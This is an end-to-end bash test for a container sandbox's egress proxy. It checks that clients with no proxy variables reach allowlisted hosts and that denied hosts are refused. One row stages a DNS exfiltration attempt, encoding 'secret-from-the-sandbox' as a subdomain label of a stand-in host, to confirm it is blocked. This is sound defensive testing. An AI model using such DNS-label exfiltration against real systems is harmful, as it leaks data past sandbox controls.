#!/usr/bin/env bash
# End-to-end test of egress for every client (issue 31) with real dockerd,
# iptables, cordon-proxy and gVisor sandboxes, through the real runner:
# clients that never heard of a proxy (every *_PROXY variable removed), in
# an image profile of the test's own ("clients": python3, requests, pip,
# nodejs, curl, git, openssh-client), reach the test's services through
# the transparent listener and the closed resolver:
#  1. curl --noproxy '*' (TLS, by SNI), Python urllib (HTTP, by Host),
#     requests (TLS), pip install from an index (TLS), Node's fetch (TLS),
#     git clone over https (TLS) and over ssh (a `raw` entry, by the name
#     the resolver gave the address), and raw TCP to an echo server (raw);
#  2. the closed resolver from inside: a name off the policy does not
#     resolve, and its answer, parsed by the job itself, is NXDOMAIN with
#     EDE 15 naming the policy; an exfiltration-shaped name and every
#     denied name never reach the upstream resolver (its query log);
#  3. refusals a program can read: a 403 naming host, port, policy and
#     reason for HTTP, a TLS alert for TLS;
#  4. two runs at once with different policies each reach only their own
#     hosts, and each report lists its attempts with their paths (via);
#  5. a proxy-mode session and a warm proxy-mode run (cordon serve --pool)
#     resolve and fetch the same way.
# Fails (never skips) when something is missing, unless CORDON_E2E=skip.
# CORDON_E2E_EGRESS_RUNTIME and CORDON_E2E_STACK as in e2e_egress.sh.
. "$CORDON_SOURCE_ROOT/tests/lib/e2e.sh" || exit 1
step() { echo "--- $(date +%T) $*"; }

here="$CORDON_SOURCE_ROOT/tests/netsetup"
[ "$(id -u)" = 0 ] || missing "must run as root (iptables, docker networks)"
for t in iptables ip python3 openssl git ssh-keygen curl; do
	command -v "$t" >/dev/null || missing "no $t"
done
/usr/bin/python3 -c 'import paramiko' 2>/dev/null || missing "no python3-paramiko (Debian's, for the test's SSH server)"
e2e_need_docker /usr/bin/docker
. "$CORDON_SOURCE_ROOT/tests/netsetup/teardown.sh"
rt=${CORDON_E2E_EGRESS_RUNTIME:-cordon-egress}
drt=${CORDON_E2E_DEBUG_EGRESS_RUNTIME:-cordon-debug-egress}
want_stack=${CORDON_E2E_STACK:-}
. "$here/stack.sh"
check_stack
e2e_need_image
img=$id

net='cordon-e2e-cl'
br=cordonE2E4
subnet=10.213.246.0/24
T=$(mktemp -d /tmp/cordon-cltest.XXXXXX)
chmod 755 "$T"
export CORDON_CONFIG="$T/cordon.json"
cat >"$CORDON_CONFIG" <<EOF
{"egress_network": "$net", "egress_bridge": "$br", "egress_subnet": "$subnet",
 "state_dir": "$T/state", "runtime_egress": "$rt", "runtime_debug_egress": "$drt",
 "audit_log": "$T/audit.log", "require_probe": false,
 "egress_default_policy": "alpha",
 "image": {"id": "$img", "profiles": {"clients": {"packages": ["python3",
   "python3-requests", "python3-pip", "nodejs", "curl", "git",
   "openssh-client", "ca-certificates"]}}}}
EOF
pids=()
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	for _ in $(seq 300); do
		alive=0
		for p in "${pids[@]}"; do kill -0 "$p" 2>/dev/null && alive=1; done
		[ $alive = 0 ] && break
		sleep 0.1
	done
	net_teardown
	"$docker" network rm "$net" >/dev/null 2>&1
	rm -rf "$T"
}
trap cleanup EXIT
if "$docker" network inspect "$net" >/dev/null 2>&1 || ip link show "$br" >/dev/null 2>&1; then
	fail "$net / $br exist already (a previous run?): remove them first"
fi
start=$(date +%s)
jget() { python3 -I -c 'import json,sys; d=json.load(open(sys.argv[1])); print(" ".join(str(eval(e, {}, {"d": d})) for e in sys.argv[2:]))' "$@"; }

step "the clients image profile (python3, requests, pip, nodejs, curl, git, openssh-client)"
"$cordon" image build --profile clients >"$T/build.txt" 2>&1 || fail "image build --profile clients: $(tail -n 20 "$T/build.txt")"
echo "ok: $(tail -n1 "$T/build.txt")"

step "host services: a test CA and certificate, a pip index, a git repository, an SSH key"
(
	cd "$T" || exit 1
	openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=cordon-test-ca \
		-keyout ca.key -out ca.pem
	openssl req -newkey rsa:2048 -nodes -subj /CN=web.example.com \
		-keyout srv.key -out srv.csr
	printf 'subjectAltName=DNS:web.example.com,DNS:git.example.com,DNS:pypi.example.com,DNS:other.example.org\n' >ext
	openssl x509 -req -in srv.csr -CA ca.pem -CAkey ca.key -CAcreateserial \
		-days 2 -extfile ext -out srv.pem
	ssh-keygen -q -t ed25519 -N '' -f id
) >"$T/pki.log" 2>&1 || fail "test PKI: $(cat "$T/pki.log")"
mkdir -p "$T/root/simple/cordontest" "$T/root/files" "$T/work"
python3 -I - "$T/root" <<'PY' || fail "the test wheel"
import base64, hashlib, os, sys, zipfile
root = sys.argv[1]
name = "cordontest-1.0-py3-none-any.whl"
files = {"cordontest/__init__.py": b'VALUE = "cordon-wheel-ok"\n',
         "cordontest-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: cordontest\nVersion: 1.0\n",
         "cordontest-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: cordon-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
rec = ""
for k, v in files.items():
    h = base64.urlsafe_b64encode(hashlib.sha256(v).digest()).rstrip(b"=").decode()
    rec += "%s,sha256=%s,%d\n" % (k, h, len(v))
rec += "cordontest-1.0.dist-info/RECORD,,\n"
path = os.path.join(root, "files", name)
with zipfile.ZipFile(path, "w") as z:
    for k, v in files.items():
        z.writestr(k, v)
    z.writestr("cordontest-1.0.dist-info/RECORD", rec)
digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
with open(os.path.join(root, "simple", "cordontest", "index.html"), "w") as f:
    f.write('<html><body><a href="../../files/%s#sha256=%s">%s</a></body></html>\n' % (name, digest, name))
with open(os.path.join(root, "simple", "index.html"), "w") as f:
    f.write('<html><body><a href="cordontest/">cordontest</a></body></html>\n')
PY
(
	set -e
	git init -q --bare "$T/root/repo.git"
	git init -q "$T/work"
	cd "$T/work"
	echo "cordon-git-ok" >README
	git add README
	git -c user.name=t -c user.email=t@example.test commit -q -m first
	git push -q "$T/root/repo.git" HEAD:refs/heads/main
	git -C "$T/root/repo.git" symbolic-ref HEAD refs/heads/main
	git -C "$T/root/repo.git" update-server-info
) >"$T/git.log" 2>&1 || fail "test repository: $(cat "$T/git.log")"
chmod -R a+rX "$T/root"
/usr/bin/python3 "$here/clientsvc.py" --out "$T/svc.json" --log "$T/svc.log" \
	--name web.example.com --name git.example.com --name pypi.example.com \
	--name echo.example.com --name other.example.org \
	--cert "$T/srv.pem" --key "$T/srv.key" --root "$T/root" --ssh-user "$T/id.pub" &
pids+=($!)
for _ in $(seq 300); do [ -s "$T/svc.json" ] && break; sleep 0.1; done
[ -s "$T/svc.json" ] || fail "host services did not start"
read -r dns_port hport sport eport sshport < <(jget "$T/svc.json" 'd["dns"]' 'd["http"]' 'd["https"]' 'd["echo"]' 'd["ssh"]')
echo "ok: dns 127.0.0.1:$dns_port; http $hport, https $sport, echo $eport, ssh $sshport on 127.0.0.2"

mkdir "$T/lists"
cat >"$T/lists/alpha.list" <<EOF
web.example.com:$hport,$sport
git.example.com:$sport
git.example.com:$sshport raw
pypi.example.com:$sport
echo.example.com:$eport raw
EOF
printf 'other.example.org:%s,%s\n' "$hport" "$sport" >"$T/lists/beta.list"
chmod -R a+rX "$T/lists"
step "cordon net up (policies alpha, beta)"
"$cordon" net up --allowlist "$T/lists" \
	--proxy-arg=--resolver=127.0.0.1:"$dns_port" \
	--proxy-arg=--allow-address=127.0.0.2 >"$T/up.txt" 2>&1 ||
	fail "net up: $(cat "$T/up.txt")"
echo "ok: $(grep -c . "$T/up.txt") lines from net up"

# The job (bash): every client, with no proxy variable, one ROW line each.
cat >"$T/clients.sh" <<EOF
unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy NO_PROXY no_proxy
cd /tmp
row() { printf 'ROW %s %s\n' "\$1" "\$(printf '%s' "\$2" | tr '\n' ' ' | cut -c1-300)"; }
row env "\$(env | grep -ci proxy)"
row curl "\$(curl -sS --noproxy '*' --cacert /in/ca.pem --max-time 15 https://web.example.com:$sport/ 2>&1)"
row urllib "\$(python3 -c '
import urllib.request
print(urllib.request.urlopen("http://web.example.com:$hport/", timeout=15).read().decode())' 2>&1)"
row requests "\$(python3 -c '
import requests
print(requests.get("https://web.example.com:$sport/", verify="/in/ca.pem", timeout=15).text)' 2>&1)"
# pip's --cert loses to REQUESTS_CA_BUNDLE (set to Cordon's bundle in
# proxy mode), which does not hold the test's CA.
row pip "\$(REQUESTS_CA_BUNDLE=/in/ca.pem python3 -m pip install -q --no-cache-dir --disable-pip-version-check --no-deps \
	--index-url https://pypi.example.com:$sport/simple/ --cert /in/ca.pem --target /tmp/pp cordontest >/tmp/pip.log 2>&1 &&
	PYTHONPATH=/tmp/pp python3 -c 'import cordontest; print(cordontest.VALUE)' || tail -n 3 /tmp/pip.log)"
row node "\$(NODE_EXTRA_CA_CERTS=/in/ca.pem node -e '
fetch("https://web.example.com:$sport/").then(r => r.text()).then(t => console.log(t),
  e => console.log("ERR", (e.cause && e.cause.code) || e.message))' 2>&1)"
row git-https "\$(git -c http.sslCAInfo=/in/ca.pem clone -q https://git.example.com:$sport/repo.git /tmp/g1 2>&1 && cat /tmp/g1/README)"
cp /in/id /tmp/id && chmod 600 /tmp/id
row git-ssh "\$(GIT_SSH_COMMAND='ssh -i /tmp/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR -p $sshport' \
	git clone -q ssh://git@git.example.com/repo.git /tmp/g2 2>&1 && cat /tmp/g2/README)"
row raw "\$(python3 -c '
import socket
s = socket.create_connection(("echo.example.com", $eport), 15)
s.sendall(b"cordon-raw-ok\n")
print(s.recv(100).decode())' 2>&1)"
row resolve-denied "\$(python3 -c '
import socket
try:
    print(socket.getaddrinfo("other.example.org", 443))
except socket.gaierror as e:
    print("gaierror", e.args[1])' 2>&1)"
row exfil "\$(python3 -c '
import socket
try:
    print(socket.getaddrinfo("c2VjcmV0LWZyb20tdGhlLXNhbmRib3g.other.example.org", 443))
except socket.gaierror as e:
    print("gaierror", e.args[1])' 2>&1)"
row ede "\$(python3 /in/ede.py other.example.org 2>&1)"
row http-denied "\$(curl -s --noproxy '*' --max-time 15 --resolve other.example.org:$hport:203.0.113.9 \
	-w ' status=%{http_code}' http://other.example.org:$hport/ 2>&1)"
row tls-denied "\$(curl -sS --noproxy '*' --cacert /in/ca.pem --max-time 15 \
	--resolve other.example.org:$sport:203.0.113.9 https://other.example.org:$sport/ 2>&1)"
EOF
# ede.py NAME: an A query with EDNS to the resolver of resolv.conf, its
# answer parsed by hand: the rcode and every EDE option.
cat >"$T/ede.py" <<'PY'
import random, socket, struct, sys
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
qid = random.randrange(65536)
q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 1)
q += b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[1].split(".")) + b"\0"
q += struct.pack(">HH", 1, 1) + b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(q, (ns, 53))
a = s.recv(4096)
rid, flags, qd, an, ns_, ar = struct.unpack(">HHHHHH", a[:12])
i = 12
def skip_name(i):
    while a[i]:
        if a[i] & 0xc0 == 0xc0:
            return i + 2
        i += 1 + a[i]
    return i + 1
for _ in range(qd):
    i = skip_name(i) + 4
out = ["id-ok" if rid == qid else "id-bad", "rcode %d" % (flags & 15)]
for _ in range(an + ns_ + ar):
    i = skip_name(i)
    typ, cls, ttl, rdlen = struct.unpack(">HHIH", a[i:i + 10])
    i += 10
    if typ == 41:
        j = i
        while j < i + rdlen:
            code, olen = struct.unpack(">HH", a[j:j + 4])
            if code == 15:
                info = struct.unpack(">H", a[j + 4:j + 6])[0]
                out.append("ede %d %s" % (info, a[j + 6:j + 4 + olen].decode()))
            j += 4 + olen
    i += rdlen
print(" ".join(out))
PY
cat >"$T/beta.sh" <<EOF
unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy
row() { printf 'ROW %s %s\n' "\$1" "\$(printf '%s' "\$2" | tr '\n' ' ' | cut -c1-300)"; }
row own "\$(curl -sS --noproxy '*' --cacert /in/ca.pem --max-time 15 https://other.example.org:$sport/ 2>&1)"
row alphas "\$(curl -sS --noproxy '*' --cacert /in/ca.pem --max-time 15 https://web.example.com:$sport/ 2>&1)"
EOF

step "1-4. two runs at once: alpha's every client, beta's own host and alpha's"
"$cordon" run --net proxy --policy alpha --profile clients --lang bash --timeout 120 \
	--in "$T/ca.pem" --in "$T/id" --in "$T/ede.py" <"$T/clients.sh" >"$T/a.json" 2>"$T/a.err" &
ja=$!
"$cordon" run --net proxy --policy beta --profile clients --lang bash --timeout 120 \
	--in "$T/ca.pem" <"$T/beta.sh" >"$T/b.json" 2>"$T/b.err" &
jb=$!
wait "$ja" || fail "alpha's run: $(cat "$T/a.err" "$T/a.json")"
wait "$jb" || fail "beta's run: $(cat "$T/b.err" "$T/b.json")"
jget "$T/a.json" 'd["stdout"]' >"$T/a.txt"
jget "$T/b.json" 'd["stdout"]' >"$T/b.txt"
cat "$T/a.txt" "$T/b.txt"
# row NAME PATTERN FILE: the row's text matches the extended regex.
row() { grep -E "^ROW $1 $2" "$3" >/dev/null || fail "row $1: want /$2/, got: $(grep "^ROW $1 " "$3") $(jget "$T/a.json" 'd["stderr"][-600:]')"; }
row env '0 *$' "$T/a.txt"
row curl 'cordon-upstream-ok web\.example\.com:'"$sport" "$T/a.txt"
row urllib 'cordon-upstream-ok web\.example\.com:'"$hport" "$T/a.txt"
row requests 'cordon-upstream-ok web\.example\.com:'"$sport" "$T/a.txt"
row pip 'cordon-wheel-ok' "$T/a.txt"
row node 'cordon-upstream-ok web\.example\.com:'"$sport" "$T/a.txt"
row git-https 'cordon-git-ok' "$T/a.txt"
row git-ssh 'cordon-git-ok' "$T/a.txt"
row raw 'cordon-raw-ok' "$T/a.txt"
row resolve-denied 'gaierror Name or service not known' "$T/a.txt"
row exfil 'gaierror Name or service not known' "$T/a.txt"
row ede 'id-ok rcode 3 ede 15 cordon: not-on-policy alpha' "$T/a.txt"
row http-denied 'cordon-proxy: 403 Forbidden: not-on-policy alpha \(host other\.example\.org, port '"$hport"', policy alpha\) *status=403' "$T/a.txt"
row tls-denied 'curl: \(35\) .*(alert access denied|access denied)' "$T/a.txt"
row own 'cordon-upstream-ok other\.example\.org:'"$sport" "$T/b.txt"
row alphas 'curl: \(6\) Could not resolve host: web\.example\.com' "$T/b.txt"
echo "ok: every client reached alpha's hosts with no proxy variable; the denials read as NXDOMAIN with EDE 15, a 403 naming host/port/policy, a TLS alert; beta reached only its own"

# The reports: every attempt with its path.
jget "$T/a.json" 'sorted(set((e["host"], e["port"], e.get("via"), e["decision"]) for e in d["egress"]))' >"$T/a.egress"
for want in "('web.example.com', $sport, 'tls', 'allowed')" "('web.example.com', $hport, 'http', 'allowed')" \
	"('pypi.example.com', $sport, 'tls', 'allowed')" "('git.example.com', $sport, 'tls', 'allowed')" \
	"('git.example.com', $sshport, 'raw', 'allowed')" "('echo.example.com', $eport, 'raw', 'allowed')" \
	"('web.example.com', 53, 'dns', 'allowed')" "('other.example.org', 53, 'dns', 'denied')" \
	"('c2vjcmv0lwzyb20tdghllxnhbmrib3g.other.example.org', 53, 'dns', 'denied')" \
	"('other.example.org', $hport, 'http', 'denied')" "('other.example.org', $sport, 'tls', 'denied')"; do
	grep -qF "$want" "$T/a.egress" || fail "alpha's report lacks $want: $(cat "$T/a.egress")"
done
jget "$T/b.json" 'sorted(set((e["host"], e.get("via"), e["decision"]) for e in d["egress"]))' >"$T/b.egress"
[ "$(cat "$T/b.egress")" = "[('other.example.org', 'dns', 'allowed'), ('other.example.org', 'tls', 'allowed'), ('web.example.com', 'dns', 'denied')]" ] ||
	fail "beta's report is not exactly its own attempts: $(cat "$T/b.egress")"
echo "ok: alpha's report: $(cat "$T/a.egress")"
echo "ok: beta's report: $(cat "$T/b.egress")"

step "the upstream resolver saw allowed names only, never a denied or exfiltration-shaped one"
python3 -I - "$T/svc.log" <<'PY' || fail "the upstream resolver's log: $(grep '"dns"' "$T/svc.log")"
import json, sys
names = {json.loads(l)["name"] for l in open(sys.argv[1]) if '"svc": "dns"' in l}
# alpha's names and beta's own; never alpha's denied lookups of beta's
# name under a label, nor anything else.
allowed = {"web.example.com", "git.example.com", "pypi.example.com",
           "echo.example.com", "other.example.org"}
bad = names - allowed
print("upstream saw:", sorted(names))
sys.exit(1 if bad or "c2vjcmv0lwzyb20tdghllxnhbmrib3g.other.example.org" in names else 0)
PY
echo "ok: the upstream resolver's log holds only allowed names"

step "5. a proxy-mode session and a warm proxy-mode run resolve and fetch the same way"
"$cordon" serve --socket "$T/serve.sock" --pool 1 >"$T/serve.log" 2>&1 &
spid=$!
pids+=("$spid")
sreq() { local o=$1; shift; curl -s -o "$o" -w '%{http_code}' --max-time 120 --unix-socket "$T/serve.sock" "$@"; }
for _ in $(seq 100); do [ "$(sreq "$T/h" http://cordon/v1/health 2>/dev/null)" = 200 ] && break; sleep 0.1; done
[ "$(sreq "$T/h" http://cordon/v1/health)" = 200 ] || fail "cordon serve did not answer: $(cat "$T/serve.log")"
cat >"$T/py.py" <<PY
import os, socket, urllib.request
for k in list(os.environ):
    if k.lower().endswith("_proxy"):
        del os.environ[k]
print("addr", socket.getaddrinfo("web.example.com", $hport)[0][4][0].split(".")[0])
print("get", urllib.request.urlopen("http://web.example.com:$hport/", timeout=15).read().decode().strip())
PY
code=$(sreq "$T/s.json" -H 'Content-Type: application/json' -d '{"net":"proxy","policy":"alpha","idle_timeout_s":120}' http://cordon/v1/sessions)
[ "$code" = 201 ] || fail "session create: HTTP $code: $(cat "$T/s.json")"
sid=$(jget "$T/s.json" 'd["id"]')
python3 -I -c 'import json,sys; print(json.dumps({"code": open(sys.argv[1]).read(), "timeout_s": 60}))' "$T/py.py" >"$T/body.json"
code=$(sreq "$T/c.json" -H 'Content-Type: application/json' -d @"$T/body.json" "http://cordon/v1/sessions/$sid/runs")
[ "$code" = 200 ] || fail "session call: HTTP $code: $(cat "$T/c.json")"
[ "$(jget "$T/c.json" 'd["stdout"]')" = "addr 198
get cordon-upstream-ok web.example.com:$hport" ] || fail "the session's call: $(cat "$T/c.json")"
sreq "$T/d.json" -X DELETE "http://cordon/v1/sessions/$sid" >/dev/null
echo "ok: session $sid: getaddrinfo gave a 198.18/15 address, urllib without proxy variables got 200"
for _ in $(seq 300); do
	sreq "$T/h" http://cordon/v1/health >/dev/null
	[ "$(jget "$T/h" 'd["pool"]["proxy"]')" = 1 ] && break
	sleep 0.1
done
[ "$(jget "$T/h" 'd["pool"]["proxy"]')" = 1 ] || fail "no warm proxy-mode container in 30 s: $(cat "$T/h")"
python3 -I -c 'import json,sys; print(json.dumps({"code": open(sys.argv[1]).read(), "net": "proxy", "policy": "alpha", "timeout_s": 60}))' "$T/py.py" >"$T/wbody.json"
code=$(sreq "$T/w.json" -H 'Content-Type: application/json' -d @"$T/wbody.json" http://cordon/v1/runs)
[ "$code" = 200 ] || fail "warm run: HTTP $code: $(cat "$T/w.json")"
[ "$(jget "$T/w.json" 'd["warm"]')" = True ] || fail "the run was not warm: $(cat "$T/w.json")"
[ "$(jget "$T/w.json" 'd["stdout"]')" = "addr 198
get cordon-upstream-ok web.example.com:$hport" ] || fail "the warm run: $(cat "$T/w.json")"
echo "ok: warm run: the same"
kill -TERM "$spid"
for _ in $(seq 600); do kill -0 "$spid" 2>/dev/null || break; sleep 0.1; done
! kill -0 "$spid" 2>/dev/null || fail "cordon serve did not exit within 60 s of SIGTERM; its log's end: $(tail -n 30 "$T/serve.log")"
wait "$spid" || fail "cordon serve exited non-zero: $(tail -n5 "$T/serve.log")"
[ -z "$("$docker" ps -aq --filter network="$net")" ] || fail "containers left on $net"
echo "PASS in $(( $(date +%s) - start )) s"
